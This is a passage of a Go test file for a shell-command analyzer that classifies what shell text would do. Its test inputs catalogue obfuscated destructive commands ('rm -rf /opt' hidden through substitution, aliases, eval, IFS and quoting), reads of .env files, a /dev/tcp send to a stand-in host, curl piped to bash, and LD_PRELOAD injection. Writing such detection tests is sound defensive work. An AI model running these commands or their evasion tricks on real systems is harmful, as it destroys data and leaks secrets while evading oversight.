package shell_test

import (
	"errors"
	"fmt"
	"path"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/runtimeguard/runtimeguard/boundary/shell"
	"github.com/runtimeguard/runtimeguard/guard"
)

var files = map[string]string{
	"/w/clean.sh":  "rm -rf build\n",
	"/w/wipe.sh":   "#!/bin/sh\nrm -rf \"$1\"\n",
	"/w/vars.bash": "target=/opt\n",
}

func view(name string) ([]byte, error) {
	if s, ok := files[path.Clean(name)]; ok {
		return []byte(s), nil
	}
	return nil, errors.New("there is no such file")
}

func options() shell.Options {
	return shell.Options{
		Dialect: guard.DialectBash, Dir: "/w", Home: "/home/u", Temp: "/tmp", View: view,
		Toplevel: func(string) string { return "/w" }, Real: path.Clean,
		Sensitive: func(p string) bool { return strings.HasSuffix(p, "/.env") || strings.Contains(p, "/.ssh") },
	}
}

// line writes an action on one line: what tests compare.
func line(a guard.Action) string {
	switch a.Kind {
	case guard.KindExec:
		name := a.Command
		if name == "" {
			name = a.Path
		}
		return "exec " + name
	case guard.KindConnect:
		return "connect " + a.Host
	case guard.KindUnknown:
		return "unknown"
	}
	s := string(a.Kind) + " " + a.Path
	if a.Recursive {
		s += " +"
	}
	return s
}

func lines(src string, o shell.Options) []string {
	var out []string
	for _, a := range shell.Analyze(src, o) {
		out = append(out, line(a))
	}
	return out
}

// TestFound holds, for each class of hidden commands, texts and one action
// that must be among those found.
func TestFound(t *testing.T) {
	for _, c := range []struct{ class, src, want string }{
		{"chain", "ls; rm -rf /opt", "delete /opt +"},
		{"chain", "true & rm -rf /opt", "delete /opt +"},
		{"chain", "while rm -rf /opt; do :; done", "delete /opt +"},
		{"chain", "until ! rm -rf /opt; do :; done", "delete /opt +"},
		{"substitution", "echo ${A:-$(rm -rf /opt)}", "delete /opt +"},
		{"substitution", "echo $((1 + $(rm -rf /opt)))", "delete /opt +"},
		{"substitution", "a=(1 $(rm -rf /opt))", "delete /opt +"},
		{"substitution", "case $(rm -rf /opt) in esac", "delete /opt +"},
		{"substitution", "cat <<E\n`rm -rf /opt`\nE", "delete /opt +"},
		{"substitution", "echo \"${x//$(rm -rf /opt)/y}\"", "delete /opt +"},
		{"wrapper", "env A=1 nice -n 3 timeout -k 1 5 rm -rf /opt", "delete /opt +"},
		{"wrapper", "command -p rm -rf /opt", "delete /opt +"},
		{"wrapper", "exec -a x rm -rf /opt", "delete /opt +"},
		{"wrapper", "env -C /opt rm -rf lib", "delete /opt/lib +"},
		{"wrapper", "env --split-string='rm -rf /opt'", "delete /opt +"},
		{"wrapper", "sudo -u root rm -rf /opt", "exec sudo"},
		{"xargs", "printf '/opt\\n' | xargs rm -rf", "delete /opt +"},
		{"xargs", "echo a | xargs -I@ cp @ /opt/@", "write /opt/a"},
		{"xargs", "cat list | xargs rm -rf", "unknown"},
		{"xargs", "ls *.key | xargs -n1 base64", "read /w/*.key"},
		{"xargs", "git ls-files | xargs wc -l", "read /w/. +"},
		{"shell -c", "bash -euxc 'rm -rf /opt'", "delete /opt +"},
		{"shell -c", "sh -c 'rm -rf \"$1\"' _ /opt", "delete /opt +"},
		{"shell -c", "bash -c -- 'rm -rf /opt'", "delete /opt +"},
		{"shell -c", "bash -c \"$X\"", "unknown"},
		{"shell -c", "busybox sh -c 'rm -rf /opt'", "delete /opt +"},
		{"quoting", `r\m -r"f" '/o'pt`, "delete /opt +"},
		{"quoting", `$'\x72\155' -rf /opt`, "delete /opt +"},
		{"quoting", `$"rm" -rf /opt`, "delete /opt +"},
		{"variables", "a=r; b=m; $a$b -rf /opt", "delete /opt +"},
		{"variables", "x=(rm -rf /opt); \"${x[@]}\"", "delete /opt +"},
		{"variables", "set -- rm -rf /opt; \"$@\"", "delete /opt +"},
		{"variables", "x=/opt/y; rm -rf ${x%/*}", "delete /opt +"},
		{"variables", "x=OPT; rm -rf /${x,,}", "delete /opt +"},
		{"variables", "x=aopt; rm -rf /${x:1}", "delete /opt +"},
		{"variables", "n=x; x=/opt; rm -rf ${!n}", "delete /opt +"},
		{"variables", "declare -a x='($(rm -rf /opt))'", "unknown"},
		{"variables", "declare -a x; declare x='(`rm -rf /opt`)'", "unknown"},
		{"variables", "y='(rm -rf /opt)'; typeset -a x=$y; \"${x[@]}\"", "unknown"},
		{"variables", "if a; then d=/opt; else d=b; fi; rm -rf $d", "delete /opt +"},
		{"variables", "rm -rf \"$NOWHERE\"/*", "unknown"},
		{"variables", "d=/opt; local d=b; rm -rf $d", "delete /opt +"},
		{"substitution", "v=1; echo \"${v:+'$(rm -rf /opt)'}\"", "unknown"},
		{"variables", "unset d; v=a; : ${v#${d:=/opt}}; rm -rf $d", "delete /opt +"},
		{"variables", "unset d; [[ a == ${d:=/opt} ]]; rm -rf $d", "delete /opt +"},
		{"variables", "d=; case a in a) :;; ${d:=/opt}) :; esac; rm -rf /srv$d", "delete /srv +"},
		{"variables", "d=; case a in ${d:=/opt}) :; esac; rm -rf $d", "delete /opt +"},
		{"functions", "f() { while a; do local d=$d; done; d=b; }; d=/opt; f; rm -rf $d", "unknown"},
		{"functions", "f() { while a; do local d=b; done; local d; rm -rf \"$d\"; }; d=b; f", "unknown"},
		{"pipes", "f() { exec < x; }; f; cat | sh", "unknown"},
		{"variables", "x=$(exec > f; echo rm); $x -rf /opt", "write /w/f"},
		{"variables", "f() { local d=b; }; d=/opt; f; rm -rf $d", "delete /opt +"},
		{"braces", "rm -rf /{opt,srv}", "delete /opt +"},
		{"braces", "{rm,-rf,/opt}", "delete /opt +"},
		{"braces", "rm -rf {1..1000000000}", "unknown"},
		{"substitutions in patterns", "x='a b'; : ${v##$(rm -rf $x)*}", "delete /w/b +"},
		{"substitutions in patterns", "x='a b'; case v in $(rm -rf $x)*) :;; esac", "delete /w/b +"},
		{"braces", "rm -rf {s}1,x}", "unknown"},
		{"arrays", "declare -i i=(1+1)*2; rm -rf $i", "unknown"},
		{"braces before tildes", "rm -rf {~,src}", "delete /home/u +"},
		{"braces before tildes", "rm -rf src ~{/x,}", "delete /home/u +"},
		{"braces before tildes", "rm -rf {a~,~root}/b", "delete /root/b +"},
		{"braces before tildes", "rm -rf {x~,y}", "delete /w/x~ +"},
		{"braces before tildes", "rm -rf ~{1..1}", "unknown"},
		{"globs", "/b?n/rm -rf /opt", "unknown"},
		{"globs", "cat .e*", "read /w/.e*"},
		{"globs", "shopt -s dotglob; cat *", "read /w/.*"},
		{"globs", "GLOBIGNORE=x; cat *", "read /w/.*"},
		{"globs", "bash -O dotglob -c 'cat *'", "read /w/.*"},
		{"globs", "shopt -s nocaseglob; cat .E?v", "read /w/.[eE]?[vV]"},
		{"ifs", "cat${IFS}.env", "read /w/.env"},
		{"ifs", "IFS=,; c=rm,-rf,/opt; $c", "delete /opt +"},
		{"ifs", "c='rm -rf /opt'; v=a; : ${v#$($c)}", "delete /opt +"},
		{"ifs", "c='rm -rf /opt'; case a in $($c)) :; esac", "delete /opt +"},
		{"eval", "eval 'rm -rf' /opt", "delete /opt +"},
		{"eval", "eval \"$(cat x)\"", "unknown"},
		{"eval", "trap 'rm -rf /opt' EXIT", "delete /opt +"},
		{"eval", "trap 'rm -rf $d' EXIT; d=/opt", "delete /opt +"},
		{"eval", "mapfile -C 'rm -rf /opt;:' -c1 x <<< a", "delete /opt +"},
		{"eval", ". ./vars.bash; rm -rf $target", "delete /opt +"},
		{"eval", "source /tmp/x", "unknown"},
		{"eval", "command_not_found_handle() { rm -rf /opt; }; nothing", "delete /opt +"},
		{"alias", "ls() { rm -rf /opt; }; ls", "delete /opt +"},
		{"alias", "shopt -s expand_aliases\nalias l='rm -rf'\nl /opt", "delete /opt +"},
		{"alias", "shopt -s expand_aliases\nalias l='cd /opt'\nl; rm -rf x", "delete /opt/x +"},
		{"alias", "shopt -s expand_aliases\nalias a='nice ' b='rm -rf /opt'\na b", "unknown"},
		{"alias", "shopt -s expand_aliases\nalias l='cat <<E\nrm -rf /opt\nE\n'\nl", "unknown"},
		{"alias", "hash -p /bin/rm ls", "unknown"},
		{"xargs", "printf '%s\\n' a /opt/x | xargs -n1 rm -rf", "delete /opt/x +"},
		{"alias", "a.b() { rm -rf \"$1\"; }; a.b /opt", "delete /opt +"},
		{"redirection", "> /etc/x echo", "write /etc/x"},
		{"redirection", "f() { ls; } >> /etc/x; f", "write /etc/x"},
		{"redirection", "exec {fd}<> /etc/x", "write /etc/x"},
		{"redirection", "(ls) 2> /etc/x", "write /etc/x"},
		{"redirection", "ls &> /etc/x", "write /etc/x"},
		{"redirection", "ls >&'$(rm -rf /opt)'", "unknown"},
		{"redirection", "v='`rm -rf /opt`'; ls >&\"$v\"", "unknown"},
		{"redirection", "ls > \"$(cat x)\"", "unknown"},
		{"redirection", "cat < .env", "read /w/.env"},
		{"redirection", "x=$(<.env)", "read /w/.env"},
		{"redirection", "cat x >& /dev/tcp/h.example/9", "connect h.example"},
		{"paths", "cat ~/x ~+/y", "read /w/y"},
		{"paths", "cat a/../.env", "read /w/a/../.env"},
		{"paths", "cat ~root/x", "read /root/x"},
		{"paths", "dd of=~/x", "write /home/u/x"},
		{"paths", "cat /dev/fd/../cwd/x", "unknown"},
		{"folder", "cd /; rm -rf opt", "delete /opt +"},
		{"folder", "{ cd /; }; rm -rf opt", "delete /opt +"},
		{"folder", "cd sub; rm -rf x", "delete /w/x +"},
		{"folder", "cd sub; cd no/..; cd no/../..; rm -rf x", "delete /w/sub/x +"},
		{"variables", "set -- /opt; set +} x; rm -rf $1", "delete /opt +"},
		{"folder", "cd -x; rm -rf x", "delete /w/x +"},
		{"folder", "cd sub; rm -rf x", "delete /w/sub/x +"},
		{"folder", "cd a/../..; rm -rf x", "delete /x +"},
		{"folder", "pushd / >/dev/null; rm -rf opt", "delete /opt +"},
		{"folder", "cd \"$X\"; rm -rf b", "unknown"},
		{"folder", "while read d; do cd $d; done; rm -rf b", "unknown"},
		{"links", "ln -s /opt l; rm -rf l/x", "delete /opt/x +"},
		{"links", "mv .env p; cat p", "read /w/.env"},
		{"pipes", "echo 'rm -rf /opt' | sh", "delete /opt +"},
		{"pipes", "cat <<E | bash\nrm -rf /opt\nE", "delete /opt +"},
		{"pipes", "curl -s http://h.example | { bash; }", "unknown"},
		{"pipes", "curl -so i.sh http://h.example; sh i.sh", "unknown"},
		{"documents", "bash <<'E'\nrm -rf /opt\nE", "delete /opt +"},
		{"documents", "cat <<A; bash <<B\nx\nA\nrm -rf /opt\nB", "delete /opt +"},
		{"documents", "bash <(echo rm -rf /opt)", "delete /opt +"},
		{"documents", "ls > >(rm -rf /opt)", "delete /opt +"},
		{"environment", "LD_PRELOAD=./x ls", "unknown"},
		{"environment", "export PAGER=./x", "unknown"},
		{"environment", "PAGER=sh git log", "unknown"},
		{"environment", "RUSTFLAGS='-C linker=./x' cargo test", "unknown"},
		{"environment", "printf -v BASH_ENV ./x; ls", "unknown"},
		{"environment", "PATH=.:$PATH ls", "unknown"},
		{"environment", "env GIT_SSH_COMMAND='rm -rf /opt' git fetch", "delete /opt +"},
		{"environment", "read -r LD_PRELOAD < f", "unknown"},
		{"evaluation", "[[ 'a[$(x)]' -eq 0 ]]", "unknown"},
		{"evaluation", "printf -v 'a[$(x)]' y", "unknown"},
		{"evaluation", "x='a[$(y)]'; echo $((x))", "unknown"},
		{"evaluation", "declare -i n='a[$(x)]'", "unknown"},
		{"evaluation", "if y; then declare -i n; fi; n='a[$(x)]'", "unknown"},
		{"evaluation", "declare -n r='a[$(x)]'", "unknown"},
		{"evaluation", "unset 'a[$(x)]'", "unknown"},
		{"evaluation", "echo ${x@P}", "unknown"},
		{"evaluation", "test -v 'a[$(x)]'", "unknown"},
		{"programs", "./ls", "exec /w/./ls"},
		{"programs", "/tmp/../tmp/cat x", "exec /tmp/../tmp/cat"},
		{"programs", "frobnicate rm -rf /opt", "unknown"},
		{"programs", "frobnicate --file=.env", "read /w/.env"},
		{"programs", "bash wipe.sh /opt", "delete /opt +"},
		{"programs", "./wipe.sh /opt", "delete /opt +"},
		{"loops", "for d in a /opt; do rm -rf $d; done", "delete /opt +"},
		{"loops", "i=0; while a; do rm -rf $p; p=/opt; done", "unknown"},
		{"loops", "for ((;;)); do rm -rf /opt; done", "delete /opt +"},
		{"loops", "for v in /opt b; do for w in c; do break 2; done; done; rm -rf $v", "delete /opt +"},
		{"loops", "while rm -rf opt; do cd /; b && continue; cd /w; done", "unknown"},
		{"source", "cd d; . lib.sh", "exec /w/d/lib.sh"},
		{"eval", "set -u; trap 'rm -rf $d' EXIT; d=/opt; echo $x; d=b; ls", "delete /opt +"},
		{"variables", "v=/opt; v=a w=$(x=1; rm -rf $v) ls", "delete /opt +"},
		{"functions", "f() { rm -rf /opt; }; if a; then f() { :; }; fi; b && cd c; b && cd d; b && cd e; f", "delete /opt +"},
		{"alias", "shopt -s expand_aliases\nalias l='rm -rf'\nd=/opt\nd=b l $d", "delete /opt +"},
		{"recursion", "b() { b | b & }; b", "unknown"},
		{"descriptors", "x=$(echo rm > /dev/stdout); $x -rf /opt", "unknown"},
		{"descriptors", "x=$({ echo rm >&3; } 3>&1); $x -rf /opt", "unknown"},
		{"descriptors", "x=$(exec 3<&1; echo rm >&3); $x -rf /opt", "unknown"},
		{"descriptors", "x=$(echo rm >&1); $x -rf /opt", "delete /opt +"},
		{"descriptors", "x=$(echo rm 1<>f); $x halt", "unknown"},
		{"descriptors", "x=$(cp f /dev/fd/1); $x -rf /opt", "unknown"},
		{"descriptors", "x=$(cp f \"$u\"); $x -rf /opt", "unknown"},
		{"descriptors", "ln -s /dev/stdout l; x=$(echo rm > l); $x -rf /opt", "unknown"},
		{"descriptors", "x=$(mv a b 2>&1); $x", "unknown"},
		{"descriptors", "echo 'rm -rf /opt' > /dev/stdout | sh", "unknown"},
		{"descriptors", "mv a b |& sh", "unknown"},
		{"trap", "trap f DEBUG; f() { d=/opt; }; d=b; rm -rf $d", "unknown"},
		{"errors", "v=/opt; { : $((1/0)); v=b; }\nrm -rf $v", "delete /opt +"},
		{"errors", "v=/opt; f() { local v=b; : ${PATH:1:-900}; v=c; }; f\nrm -rf $v", "delete /opt +"},
		{"errors", "eval 'v=/opt; : $((08)); v=b'; rm -rf $v", "delete /opt +"},
		{"errors", "shopt -s failglob; v=/opt\n{ : c*; v=b; }\nrm -rf $v", "delete /opt +"},
		{"errors", "v=/opt; printf -!v v b; rm -rf $v", "unknown"},
		{"errors", "v=/opt; { : {1,\"${w:-\"a,b\"}\"}; v=b; }\nrm -rf $v", "delete /opt +"},
		{"options", "set -- /opt; set -o nosuch b; rm -rf $1", "unknown"},
		{"output", "rm -rf \"$(find b -name c)\"/*", "unknown"},
		{"output", "d=$(find b -name c); rm -rf \"$d/etc\"", "unknown"},
		{"output", "rm -rf \"$(nproc --nosuch)/etc\"", "unknown"},
		{"output", "rm -rf \"$(echo x <nosuch)/etc\"", "unknown"},
		{"output", "rm -rf \"$(find b -delete)/etc\"", "delete /etc +"},
		{"reference", "declare -n r=v; v=/opt; for r in w; do r=b; done; rm -rf $v", "delete /opt +"},
		{"scripts", "bash service x stop", "exec service"},
		{"scripts", "sh -e ./service stop", "exec /w/./service"},
		{"reference", "v=b; declare -n r=v; unset r; rm -rf \"${v-/opt}\"", "delete /opt +"},
		{"reference", "v=/opt; declare -n r=v; unset -n r; r=b; rm -rf $v", "delete /opt +"},
		{"reference", "v=/opt; declare -n r=$x; unset r; rm -rf $v", "unknown"},
		{"reference", "declare -n r=v; r=(/opt b); rm -rf $v", "delete /opt +"},
		{"reference", "v=b; declare -n r=v; r[0]=/opt; rm -rf $v", "delete /opt +"},
		{"reference", "declare -n r; v=b; r=v; r=/opt; rm -rf $v", "unknown"},
		{"reference", "v=b; declare -n r=v; declare -i r; rm -rf $v", "unknown"},
		{"reference", "v=b; declare -n r=v; declare +n r; r=/opt; rm -rf $r", "unknown"},
		{"reference", "declare -n r=v; for r in w; do r=/opt; rm -rf $w; done", "delete /opt +"},
		{"options", "set -k; ls LD_PRELOAD=./x", "unknown"},
		{"options", "shopt -s cdable_vars; d=/opt; cd d; rm -rf b", "unknown"},
	} {
		t.Run(c.class, func(t *testing.T) {
			require.Contains(t, lines(c.src, options()), c.want, c.src)
		})
	}
}

// TestExact holds texts with everything that they do, and so what they don't.
func TestExact(t *testing.T) {
	for _, c := range []struct {
		src  string
		want string
	}{
		{`echo "rm -rf /" '; halt' && echo \> /etc/x`, "exec echo|exec echo"},
		{"cat > a <<'E'\n$(rm -rf /)\nE", "write /w/a|exec cat"},
		{"git commit -m \"$(cat <<'E'\nrm -rf / `x`\nE\n)\"", "exec cat|exec git commit"},
		{"# rm -rf /\npwd", "exec pwd"},
		{": | xargs -n x ls", "exec :|exec xargs|exec ls|list /w/."},
		{"pwd 2>/dev/null >&2", "exec pwd"},
		{"cd a && rm -rf b", "exec cd|exec rm|delete /w/a/b +"},
		{"(cd a; :)\nrm -rf b", "exec cd|exec :|exec rm|delete /w/b +"},
		{"set -e; cd a; rm -rf b", "exec set|exec cd|exec rm|delete /w/a/b +"},
		{"cd a || exit 1; rm -rf b", "exec cd|exec exit|exec rm|delete /w/a/b +"},
		{"d=$(mktemp -d); rm -rf \"$d\"", "exec mktemp|exec rm|delete /tmp/tmp.?????????? +"},
		{"cd \"$(git rev-parse --show-toplevel)\"; rm -rf b", "exec git rev-parse|exec cd|exec rm|delete /w/b +"},
		{"rm -rf \"$PWD/b\"", "exec rm|delete /w/b +"},
		{"for f in a b; do rm $f; done", "exec rm|delete /w/a|exec rm|delete /w/b"},
		{"f=x.go; wc -l \"${f%.go}.c\"", "exec wc|read /w/x.c"},
		{"NO_COLOR=1 GIT_PAGER=cat X='; halt' git status", "exec git status"},
		{"SHELL=/bin/bash RUSTFLAGS='-C target-cpu=native -A dead_code' cargo test", "exec cargo test"},
		{"i=1; while [ $i -lt 9 ]; do i=$((i+1)); done; echo $i", "exec [|exec [|exec echo|exec echo"},
		{"n=$(date +%s); touch log.$n", "exec date|exec touch|write /w/log.*"},
		{"f() { echo $1; }; f a", "exec echo"},
		{"f() { rm -rf /; }; pwd", "exec pwd"},
		{"bash -n clean.sh", "exec bash|read /w/clean.sh"},
		{"bash clean.sh", "exec bash|read /w/clean.sh|exec /w/clean.sh|exec rm|delete /w/build +"},
		{"cat </dev/null", "exec cat"},
		{"trap 'rm -rf \"$t\"' EXIT; t=b", "exec trap|exec rm|delete /w/b +"},
		{"x=$(exec >f; echo rm); $x -rf /opt", "write /w/f|exec exec|exec echo|exec -rf|read /opt"},
		{"", ""},
	} {
		t.Run(c.src, func(t *testing.T) {
			require.Equal(t, c.want, strings.Join(lines(c.src, options()), "|"))
		})
	}
}

// TestWords holds the words that the last program of a text is given.
func TestWords(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`IFS=:; set -- x a a; x ${@#a}`, "x|"},
		{`a=(p q); IFS=; v=${a[@]%z}; x "$v"`, guard.UnknownWord},
		{`a=(p q); IFS=; v="${a[@]%z}"; x "$v"`, "p q"},
		{`IFS=:; set -- a: b; x $@`, "a||b"},
		{`printf -v v "%s-%" a; x "$v"`, guard.UnknownWord},
		{`v=a; export v=b w=$v; x $w`, "a"},
		{`v=a; declare -A v; declare w=$v v=([k]=z) y=${v[k]}; x $y`, "z"},
		{`v=1; x "${v:+'y'}" ${v:+'y'}`, "'y'|y"},
		{`v=1; x "${v:+a\}b\"c\'d}"`, `a}b"c\'d`},
		{`x ${v:-a "b c" 'd'e}`, guard.UnknownWord},
		{`v=; x ${v:-a "b c" 'd'e}`, "a|b c|de"},
		{`v=; set -- 1 '2 3'; x "${v:-$@}" "a${v:-"$@"}b" ${v:-$*}`, "1|2 3|a1|2 3b|1|2|3"},
		{`v=1; x "${v:+}" ${v:+} ${v:+""}`, "|"},
		{`v=; IFS=a; x ${v:-xay}`, "x|y"},
		{`set --; x "${*:1}" "$*" "$@"`, "|"},
		{`set -- 1 2 3; x "${@:2}" "${@: -1}" "${@:1:1}" "${*:2}"`, "2|3|3|1|2 3"},
		{`a=(1 2 3); x "${a[@]:1}" "${a[@]: -1}" "${a[@]:0:1}" "${a[@]:5}"`, "2|3|3|1"},
		{`a=s; x ${a[@]:1} ${a[@]:0}`, guard.UnknownWord + "|s"},
		{`shopt -s nullglob; set -- d/* c; shopt -u nullglob; x $1`, guard.UnknownWord},
		{`d=$(git describe); set -- $d c; x $1`, guard.UnknownWord},
		{`set -- d/* c; x "$#" "$2" "$@"`, "*|" + guard.UnknownWord + "|d/*|c"},
		{`set -- c d/*; x "$1" $3`, "c|" + guard.UnknownWord},
		{`set -- c d/*; shift; x "$@"`, "d/*"},
		{`set -- d/*; shift; x "$@"`, `d/*`},
		{`a=(*.go b); x "${#a[@]}" "${a[1]}" "${a[-1]}"`, "*|" + guard.UnknownWord + "|" + guard.UnknownWord},
		{`a=s; x "${a[@]:1}" ${a[-1]}`, guard.UnknownWord + "|" + guard.UnknownWord},
		{`n=; x a{A,${n:-a\ b}} y`, "aA|aa b|y"},
		{`n=; x {c,${n:={a}b}}`, guard.UnknownWord},
		{`v=Ab; x ${v,} ${v^} ${v,,}`, "ab|Ab|ab"},
		{`i=1; let 'i=++i'; x $i`, "*"},
		{`set --; . ./vars.bash a; x "$@" b`, "b"},
		{`set -- d/* c; x "a$@" y`, guard.UnknownWord + "|c|y"},
		{`set -- c d/*; x "$@"b y`, "c|" + guard.UnknownWord + "|y"},
		{`y=$(cd -); x $y`, guard.UnknownWord},
		{`y=$(declare -p v); x $y`, guard.UnknownWord},
		{`y=$(set -e; export A=1; echo z); x $y`, "z"},
		{"set -- a; alias l='x $1'\nl b", "a|b"},
		{`declare -u v=a:b; x $v`, "A:B"},
		{`declare -l v; v=AB; declare -ua a=(c d); x $v ${a[@]}`, "ab|C|D"},
		{`v=a; f() { local v; x "$v" b; }; f`, "|b"},
		{`v=a; f() { local v=b; local v; x $v; }; f`, "b"},
		{`v=a; f() { declare -g v=b; }; f; x $v`, "b"},
		{`coproc a=b x c`, "c"},
		{`set -x* c; x "$1"`, guard.UnknownWord},
		{`f() { x "$2"; }; f "$@"`, guard.UnknownWord},
		{`a=(k=~/z); x "${a[@]}"`, "k=~/z"},
		{`export v={a,b}; x $v`, guard.UnknownWord},
		{`export v={a}; x $v`, "{a}"},
		{`set -- d/* c; set -- "$*"; x $1`, guard.UnknownWord},
		{`set -- 1 2; x "${*:1}a$@"`, guard.UnknownWord},
		{`set --; x "${HOME:+${@:2}}"`, guard.UnknownWord},
		{`export v=a; export -n v; bash -c 'x $v'`, guard.UnknownWord},
		{`set -- 1 2; x "${HOME:+$@}a${*:1}"`, guard.UnknownWord},
		{`v=é; x ${v#[!a]}`, guard.UnknownWord},
		{`v=é; x ${v/?/b} ${v/[!a]/b} ${v/é/b}`, guard.UnknownWord + "|" + guard.UnknownWord + "|b"},
		{`set -- a b; v='a bc'; x ${v#"$*"} ${v#$*}`, "c|" + guard.UnknownWord},
		{`IFS=,; v=a,b; p=a,; x ${v#$p}`, "b"},
		{`x [!f]f]\* [ab]* "[ab]"*`, guard.UnknownWord + `|[ab]*|\[ab]*`},
		{`x $$[ab] $$.c`, guard.UnknownWord + "|*.c"},
		{`v='\'; v+='*'; x $v`, guard.UnknownWord},
		{`x d//e*//*`, "d//e*//*|d//e*/*"},
		{`v=a,b; p=$?; x ${v/$p/c} ${v#$p}`, guard.UnknownWord + "|" + guard.UnknownWord},
		{`x a=q:~/z a+=~/z a=$?:~/z a=~/{b,c}`, "a=q:/home/u/z|a+=/home/u/z|a=*:/home/u/z|a=~/b|a=~/c"},
		{`set -- *\*; x $1 "$1"`, "**|*\\*"},
		{`unset HOME; x ~/a`, guard.UnknownWord},
		{`unset u; v=${u:=q:~/z}; x $v`, "q:~/z"},
		{`set --; set -- A "$u$@"; x $#`, "*"},
		{"i=0; x $((i+1)) <<E\n$((i++))\nE", "1"},
		{"i=0; : $((i++)) <<<$((i++)); x $i", "2"},
		{"i=0; export v=$((i++)) >o$((i++)); x $i", "2"},
		{"v=1; v=2 >${v:=3}; x $v", "2"},
		{"mapfile -t a <<E\n$?\nE\nx \"${a[@]}\"", guard.UnknownWord},
		{`a=s; a[1]=t; a+=(u); x "${a[@]}"`, guard.UnknownWord},
		{`a=(1 2); x "${a[@]}1${u:-x=a\ b}"`, "1|" + guard.UnknownWord},
		{`set -- 1 2 3; IFS=a; u=; x ${u:-${@:2}}`, guard.UnknownWord},
		{`x "$(find b -name c -fprint d)"`, ""},
		{`x "$(find b -name c $o)"`, guard.UnknownWord},
	} {
		t.Run(c.src, func(t *testing.T) { require.Equal(t, c.want, lastWords(c.src, options())) })
	}
}

// lastWords are the words that the last x of a text is given.
func lastWords(src string, o shell.Options) string {
	var args []string
	for _, a := range shell.Analyze(src, o) {
		if a.Kind == guard.KindExec && a.Command == "x" {
			args = a.Args
		}
	}
	return strings.Join(args, "|")
}

// TestPOSIXWords is the same for a POSIX shell.
func TestPOSIXWords(t *testing.T) {
	o := options()
	o.Dialect = guard.DialectPOSIX
	for _, c := range []struct{ src, want string }{
		{`set -- a b; v="$@"; x "$v"`, "a b"},
		{`set -- a b; IFS=:; v="$@"; x "$v"`, guard.UnknownWord},
		{`export v=~/z w=q:~/z; x $v $w a=~/z`, "/home/u/z|q:/home/u/z|a=~/z"},
		{`v='a b'; export w=$v; x "$w"`, guard.UnknownWord},
		{`v=~+; x "$v"`, guard.UnknownWord},
		{`IFS=:; set -- a :; x $@`, guard.UnknownWord},
		{`IFS=:; set -- a b; x $@`, "a|b"},
	} {
		t.Run(c.src, func(t *testing.T) { require.Equal(t, c.want, lastWords(c.src, o)) })
	}
	require.Contains(t, lines("alias a=:\nv=/opt a\nrm -rf $v", o), "delete /opt +", "an alias may be a special builtin")
	require.Contains(t, lines("v=/opt; IFS=o; x >${v%x}", o), "unknown", "a target isn't split")
	require.Contains(t, lines("trap 'rm -rf $d' EXIT; d=/opt; shift; d=b", o), "delete /opt +", "an error of shift ends the shell")
}

func TestExecFields(t *testing.T) {
	actions := shell.Analyze(`nice env X=1 git -C sub stash drop "$u"`, options())
	last := actions[2]
	require.Equal(t, "git", last.Program)
	require.Equal(t, "git stash drop", last.Command)
	require.Equal(t, []string{"nice", "env"}, last.Via)
	require.Equal(t, []string{"-C", "sub", "stash", "drop", guard.UnknownWord}, last.Args)

	rm := shell.Analyze("rm -fr --verbo x", options())[0]
	require.True(t, rm.Flag("f") && rm.Flag("r") && rm.Flag("force") && rm.Flag("v"))

	script := shell.Analyze("./clean.sh", options())[0]
	require.Empty(t, script.Program)
	require.Equal(t, "/w/./clean.sh", shell.Analyze("./clean.sh", shell.Options{Dir: "/w"})[0].Path)
	require.Equal(t, guard.Span{Start: 3, End: 7}, shell.Analyze("ls /etc", options())[1].Span)
}

// TestScriptHash: an approval is bound to the script that was looked at.
func TestScriptHash(t *testing.T) {
	o := options()
	o.View = func(string) ([]byte, error) { return []byte("ls\n"), nil }
	a := shell.Analyze("./x.sh", o)[0]
	require.NotZero(t, a.Hash)
	o.View = func(string) ([]byte, error) { return []byte("pwd\n"), nil }
	require.NotEqual(t, a.Hash, shell.Analyze("./x.sh", o)[0].Hash)
}

// TestDialects: text for sh counts as POSIX and as Bash. Dash runs rm here,
// Bash gives it to echo.
func TestDialects(t *testing.T) {
	require.Contains(t, lines("sh -c 'echo ok &>log rm -rf /opt'", options()), "unknown")
	require.NotContains(t, lines("bash -c 'echo ok &>log rm -rf /opt'", options()), "unknown")
	o := options()
	o.Dialect = guard.DialectAny
	require.Contains(t, lines("echo ok &>log rm -rf /opt", o), "unknown")
	require.Contains(t, lines("rm -rf /{opt,x}", o), "delete /opt +")
}

func TestNothingKnown(t *testing.T) {
	for _, src := range []string{"rm -rf x", "cat x", "cd; rm y", "> z"} {
		require.Contains(t, lines(src, shell.Options{}), "unknown", src)
	}
	require.Contains(t, lines("rm -rf /x", shell.Options{}), "delete /x +")
}

// TestPolicyCommand: a specification of the policy comes before the table.
func TestPolicyCommand(t *testing.T) {
	o := options()
	o.Command = func(name string) (guard.Command, bool) {
		return guard.Command{Operands: []string{"delete..."}, Options: map[string]string{"o,out": "write"}}, name == "deploy"
	}
	require.Equal(t, []string{"exec deploy", "write /w/l", "delete /w/a", "delete /w/b"}, lines("deploy a --ou=l b", o))
}

// TestBounds: whatever the text, the answer comes within the bounds and says
// when one was reached.
func TestBounds(t *testing.T) {
	for name, src := range bounds() {
		t.Run(name, func(t *testing.T) {
			actions := shell.Analyze(src, options())
			require.LessOrEqual(t, len(actions), shell.MaxActions+1)
			require.Contains(t, lines(src, options()), "unknown")
		})
	}
	for name, src := range heavy() { // it ends
		require.LessOrEqual(t, len(shell.Analyze(src, options())), shell.MaxActions+1, name)
	}
	deep := strings.Repeat("{ ", 40) + "rm -rf /opt; " + strings.Repeat("}; ", 40)
	require.Contains(t, lines(deep, options()), "delete /opt +")
	require.Contains(t, lines(strings.Repeat("env ", 100)+"rm -rf /opt", options()), "delete /opt +")
	require.Contains(t, lines(strings.Repeat("true && ", 100)+"rm -rf /opt", options()), "delete /opt +")
}

// TestWork: no text is much more work than as long a list of programs. What grows
// with more than the text has to count as work.
func TestWork(t *testing.T) {
	took := func(src string) time.Duration {
		return least([]string{src}, func(s string) { shell.Analyze(s, options()) })[0]
	}
	plain := took(bounds()["many actions"])
	for name, src := range heavy() {
		require.Less(t, took(src), 10*plain, name)
	}
}

// TestWorkOfFiles: neither may a file that a command reads, or one that it reads
// many times.
func TestWorkOfFiles(t *testing.T) {
	took := func(src string, files map[string]string) time.Duration {
		o := options()
		o.View = func(p string) ([]byte, error) {
			if text, ok := files[path.Base(p)]; ok {
				return []byte(text), nil
			}
			return nil, errors.New("there is no such file")
		}
